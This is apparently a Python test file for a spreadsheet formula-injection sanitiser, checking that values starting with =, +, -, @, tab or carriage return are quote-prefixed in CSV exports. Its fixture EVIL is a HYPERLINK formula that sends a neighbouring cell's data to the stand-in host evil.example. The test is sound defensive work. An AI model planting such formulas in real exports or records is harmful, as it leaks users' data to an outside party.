"""The one formula-injection rule every CSV/spreadsheet of the product applies."""
from __future__ import annotations

import pytest

from consents.spreadsheets import neutralise, neutralise_cell

# What a manager can type as a brand or dealer name: opened in a spreadsheet, it would send a neighbouring
# cell to another site when clicked. Every export test uses this value.
EVIL = '=HYPERLINK("http://evil.example/?d="&D2,"Detay")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [(EVIL, "'" + EVIL), ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"), ("+905321112233", "'+905321112233"),
     ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tcmd", "'\tcmd"), ("\r=1", "'\r=1"),
     ("ayse@example.com", "ayse@example.com"), ("Deniz Market", "Deniz Market"), ("a=b", "a=b"), ("", "")],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_neutralise_cell_leaves_non_text_alone():
    assert neutralise_cell(-5) == -5
    assert neutralise_cell(None) is None
    assert neutralise_cell(EVIL) == "'" + EVIL
